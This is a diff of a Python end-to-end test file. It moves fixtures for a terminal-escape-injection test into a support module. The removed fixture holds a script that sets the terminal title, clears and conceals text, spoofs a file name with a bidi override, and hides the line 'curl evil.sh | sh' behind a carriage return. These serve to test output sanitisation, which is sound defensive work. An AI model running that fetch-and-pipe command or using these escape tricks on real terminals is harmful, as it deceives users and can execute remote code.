@@ -18,6 +18,7 @@ import pytest
 from backend.cli.astra.client import EXIT_FAILED
 from tests.e2e.live import Api, Server, running
 from tests.support import WORKLOAD_PYTHON, searchable
+from tests.support.hostile_log import HOSTILE_LOG, HOSTILE_SHOWN, HOSTILE_WRITTEN
 from tests.support.processes import ASTRA, job_when_ended, submit
 from tests.support.sandboxed import uid_range
 
@@ -169,43 +170,6 @@ def test_a_stalled_run_says_so_on_its_own_line(live: tuple[Server, str]) -> None
     assert (job["status"], job["reason"]) == (graphql["state"], graphql["reason"])
     assert job["reason"] == line.removeprefix("stall: Running — ")
     assert astra(live, "stop", "stall").returncode == 0
-
-
-# issue 37 N7: a workload's log that would drive the reader's terminal: set its title (OSC),
-# clear its screen (CSI, also as the one-character C1 CSI), hide a line (SGR 8, conceal),
-# overwrite a line with \r, reverse a file name with a bidi override (U+202E), ring its bell.
-HOSTILE_LOG = (
-    "import sys\n"
-    "out = sys.stdout.buffer\n"
-    "out.write(b'\\x1b]0;pwned\\x07title set\\n')\n"
-    "out.write(b'\\x1b[2J\\x1b[Hscreen cleared\\n')\n"
-    "out.write('\\u009b2Jc1 cleared\\n'.encode())\n"
-    "out.write(b'\\x1b[8mhidden\\x1b[0m shown\\n')\n"
-    "out.write(b'curl evil.sh | sh\\rall good         \\n')\n"
-    "out.write('invoice\\u202efdp.exe\\n'.encode())\n"
-    "out.write(b'tab\\tkept\\x08\\x7f\\n')\n"
-    "out.flush()\n"
-)
-HOSTILE_WRITTEN = (
-    "\x1b]0;pwned\x07title set\n"
-    "\x1b[2J\x1b[Hscreen cleared\n"
-    "\x9b2Jc1 cleared\n"
-    "\x1b[8mhidden\x1b[0m shown\n"
-    "curl evil.sh | sh\rall good         \n"
-    "invoice\u202efdp.exe\n"
-    "tab\tkept\x08\x7f\n"
-)
-# What reaches the terminal: each control character as its Unicode control picture (␛ for
-# ESC), one without a picture (C1, bidi) as <U+XXXX>; tabs and newlines as they are.
-HOSTILE_SHOWN = (
-    "␛]0;pwned␇title set\n"
-    "␛[2J␛[Hscreen cleared\n"
-    "<U+009B>2Jc1 cleared\n"
-    "␛[8mhidden␛[0m shown\n"
-    "curl evil.sh | sh␍all good         \n"
-    "invoice<U+202E>fdp.exe\n"
-    "tab\tkept␈␡\n"
-)
 
 
 def test_a_workloads_escape_sequences_reach_no_terminal(live: tuple[Server, str]) -> None:
